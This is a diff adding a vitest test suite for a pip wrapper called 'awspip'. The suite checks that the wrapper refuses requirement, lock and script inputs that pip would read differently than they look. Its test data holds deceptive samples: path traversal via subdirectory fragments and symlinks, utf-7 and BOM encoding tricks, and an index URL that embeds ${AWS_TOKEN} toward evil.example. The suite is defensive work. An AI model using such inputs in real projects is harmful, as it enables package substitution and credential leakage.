@@ -1,0 +1,191 @@
+import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
+import path from 'node:path';
+import { afterAll, describe, expect, test } from 'vitest';
+import { bin, countingPython, sandbox, startNode } from '../helpers/awspip.ts';
+import { openHostile } from '../helpers/hostile.ts';
+
+// What pip reads in another way than it looks: refused all the same, before pip starts.
+const user = await sandbox();
+const { python, starts } = await countingPython(user.folder);
+const hostile = await openHostile(user.folder);
+const { files } = hostile;
+const project = user.path('project');
+
+/** Writes a file of the project that every command stands in, and answers its name. */
+const write = (name: string, content: string | Buffer): string => {
+  const file = path.join(project, name);
+  mkdirSync(path.dirname(file), { recursive: true });
+  writeFileSync(file, content);
+  return name;
+};
+write('pyproject.toml', '[project]\nname = "own"\nversion = "1"\n');
+write('inside/pyproject.toml', '[project]\nname = "inside"\nversion = "1"\n');
+mkdirSync(user.path('elsewhere', 'deep'), { recursive: true });
+symlinkSync(user.path('elsewhere', 'deep'), path.join(project, 'link'));
+
+afterAll(async () => {
+  await hostile.close();
+  await user.remove();
+});
+
+async function refused(argv: readonly string[], names: string, environment: Record<string, string> = {}) {
+  const variables = { ...user.environment, AWSPIP_PYTHON: python, ...environment };
+  const { exitCode, stdout, stderr } = await startNode([bin, ...argv], variables, project).ended;
+  expect([exitCode, stderr]).toEqual([64, expect.stringContaining(names)]);
+  expect(stderr).toMatch(/hint: \S/);
+  expect(stdout).toBe('');
+}
+
+const inFile = (name: string, content: string | Buffer, line = 2) =>
+  [['install', '-r', write(name, content)], `${name}:${line}`] as const;
+
+describe('paths', () => {
+  const inside = `file://${project}/inside`;
+  test.concurrent.each(
+    [
+      ['/', '/.', '/x/..', '[extra]/'].map((end) => `${files.wheel}${end}`),
+      [`${inside}#subdirectory=../../evil/project`, `${inside}#subdirectory=${files.project}`],
+      [`inside @ ${inside}#subdirectory=${files.project}`, `${inside}#egg=inside&subdirectory=${files.project}`],
+      [`file://${user.path('elsewhere')}\\..\\project`, `${inside}[x]`, `file://${project}/link/..`],
+    ].flat(),
+  )('a file or folder that is not what the path looks like: %s', async (word) => {
+    await refused(['install', word], word.replace(/^.* @ /, ''));
+    await refused(['download', '--no-deps', word], word.replace(/^.* @ /, ''));
+  });
+
+  test('an editable project whose subdirectory lies outside', async () => {
+    const word = `${inside}#egg=inside&subdirectory=${files.project}`;
+    await refused(['install', '-e', word], word);
+  });
+
+  test('a repository that is open, with a subdirectory outside its checkout', async () => {
+    const word = `git+https://git.example/team/x#subdirectory=${files.project}`;
+    await refused(['install', '--awspip-open=git+https://git.example/team/', word], word);
+  });
+
+  test('a wheel in a file', async () => refused(...inFile('slash.txt', `six\n${files.wheel}/\n`)));
+});
+
+describe('requirements files', () => {
+  const wheel = `${files.wheel}\n`;
+  const utf16 = (text: string) => Buffer.from(text, 'utf16le');
+
+  test.concurrent.each([
+    ['utf7.txt', `# -*- coding: utf-7 -*-\nsix #+AAo-${files.project}\n`, 'is in `utf-7`'],
+    ['far.txt', `#${'x'.repeat(9000)} coding: utf-7\nsix #+AAo-${files.project}\n`, 'is in `utf-7`'],
+    ['escapes.txt', `# coding: unicode_escape\nsix #\\n${files.project}\n`, 'is in `unicode-escape`'],
+    ['turkish.txt', Buffer.from(`# coding: iso-8859-9\nsix #\x85${wheel}`, 'latin1'), 'is in `iso-8859-9`'],
+    [
+      'turned.txt',
+      Buffer.concat([Buffer.from([0xff, 0xfe, 0xfe, 0xff]), utf16(wheel).swap16()]),
+      'can be read in more than one way',
+    ],
+    [
+      'wide.txt',
+      Buffer.concat([Buffer.from([0xff, 0xfe, 0, 0]), utf16(`\n${wheel}`)]),
+      'can be read in more than one way',
+    ],
+  ] as const)('in an encoding in which pip reads another text: %s', async (name, content, says) => {
+    await refused(['install', '-r', write(name, content)], `${name} ${says}`);
+  });
+
+  test('named by an address that pip reads in another way', async () => {
+    write('a\\b.txt', wheel);
+    write('a/b.txt', 'six\n');
+    for (const [name, start] of [
+      ['%2Fslash.txt', `file://${project}`],
+      ['/a\\b.txt', `file://${project}`],
+      ['/blank.txt', ` file://${project}`],
+    ] as const) {
+      if (!name.includes('\\')) write(name.replace('%2F', '/').slice(1), wheel);
+      await refused(['install', '-r', `${start}${name}`], '');
+    }
+  });
+
+  test.concurrent.each([
+    ['links.txt', `$\{PIP_FIND_LINKS}-f$\{PIP_FIND_LINKS}${files.folder}\nevil\n`, 'PIP_FIND_LINKS'],
+    ['protocol.txt', `-r $\{GIT_ALLOW_PROTOCOL}.txt\n`, 'GIT_ALLOW_PROTOCOL'],
+    ['secret.txt', `-r $\{AWS_REGION}.txt\n`, 'AWS_REGION'],
+  ])('filled in from a variable that pip sees otherwise: %s', async (name, content, variable) => {
+    await refused(['install', '-r', write(name, content)], `${name}:1: \`$\{${variable}}\``, {
+      AWS_REGION: 'eu-west-1',
+    });
+  });
+
+  test('with an index filled in from a variable: it is the index that is named', async () => {
+    const line = `-i https://aws:$\{AWS_TOKEN}@evil.example/\n`;
+    await refused(...inFile('index.txt', line, 1));
+    await refused(...inFile('index.txt', line, 1), { AWS_TOKEN: 'x' });
+  });
+
+  test('with a folder outside behind very many of the own project', async () => {
+    const own = Array.from({ length: 100 }, (_, at) => `./inside[e${at}]`);
+    await refused(...inFile('many.txt', [...own, files.project].join('\n'), 101));
+  });
+
+  test('with a link before `..`, which only some follow', async () => {
+    write('../elsewhere/two.txt', wheel);
+    write('two.txt', 'six\n');
+    await refused(['install', '-r', 'link/../two.txt'], 'leads to two files');
+    await refused(['install', '-r', write('outer.txt', '-r link/../two.txt\n')], 'leads to two files');
+    await refused(['install', 'six'], 'leads to two files', { PIP_CONSTRAINT: 'link/../two.txt' });
+    write('../elsewhere/one.txt', wheel);
+    await refused(['install', '-r', 'link/../one.txt'], 'one.txt:1: ');
+    write('other.txt', wheel);
+    await refused(['install', '-r', 'link/../other.txt'], 'other.txt:1: ');
+  });
+});
+
+describe('projects, groups, scripts and lock files', () => {
+  const needs = `evil @ file://${files.wheel}`;
+  const large = '[tool.x]\nlarge = 9007199254740993\n';
+
+  test.concurrent.each([
+    ['pylock.toml', '-r', 'pylock.toml[x]'],
+    ['pylock.dev.toml', '-r', './pylock.dev.toml/.'],
+    ['pylock.toml', '--group', 'pylock.toml:dev'],
+    ['pylock.toml', '--group', 'pylock.toml[x]:dev'],
+    ['pylock.toml', '-r', `file://${project}/pylock.toml?x#y`],
+  ])('what a lock file takes from elsewhere, however it is named: %s %s %s', async (name, option, value) => {
+    write(name, `lock-version = "1.0"\n[[packages]]\nname = "evil"\narchive = { path = "${files.wheel}" }\n`);
+    await refused(['install', option, value], `${name}:3: \`file://${files.wheel}\` is a file of unknown origin`);
+    await refused(['lock', option, value], `${name}:3`);
+  });
+
+  test.each([
+    ['PIP_GROUP', 'pylock.toml:dev'],
+    ['PIP_REQUIREMENT', 'pylock.toml'],
+  ])('a lock file that a variable names, which pip would read itself: %s', async (variable, value) => {
+    await refused(['install'], `${variable}: \`pylock.toml\` is a lock file`, { [variable]: value });
+  });
+
+  test('beside an integer larger than those of JavaScript', async () => {
+    write('large/pyproject.toml', `[build-system]\nrequires = ["${needs}"]\n${large}`);
+    await refused(['install', './large'], 'large/pyproject.toml:2');
+    write('group/pyproject.toml', `[dependency-groups]\nx = ["${needs}"]\nother = "no list"\n${large}`);
+    await refused(['install', '--group', 'group/pyproject.toml:x'], 'group/pyproject.toml:2');
+  });
+
+  const script = (...lines: readonly string[]) => lines.map((line) => `# ${line}\n`).join('');
+  test.concurrent.each([
+    ['inner.py', script('/// script', 'x = """', '///', '"""', `dependencies = ["${needs}"]`, '///'), 5],
+    ['blank.py', `${script('/// script ', '///')}\n${script('/// script', `dependencies = ["${needs}"]`, '///')}`, 5],
+    ['large.py', script('/// script', `dependencies = ["${needs}"]`, ...large.trim().split('\n'), '///'), 2],
+    ['ends.py', script('/// script', `dependencies = ["${needs}"]`, '///').replaceAll('\n', '\r'), 1],
+  ] as const)('a script whose block ends elsewhere than it seems to: %s', async (name, content, line) => {
+    await refused(['install', '--requirements-from-script', write(name, content)], `${name}:${line}`);
+  });
+
+  test('a script and a group behind a link and `..`', async () => {
+    for (const name of ['s.py', 'pyproject.toml']) write(`../elsewhere/${name}`, '');
+    write('s.py', '');
+    await refused(['install', '--requirements-from-script', 'link/../s.py'], 'leads to two files');
+    await refused(['install', '--group', 'link/../pyproject.toml:x'], 'leads to two files');
+  });
+});
+
+test('and pip was never started, nothing was run, nothing reached', async () => {
+  expect(await starts()).toBe(0);
+  expect(hostile.ran()).toBe(false);
+  expect(hostile.requests).toEqual([]);
+});
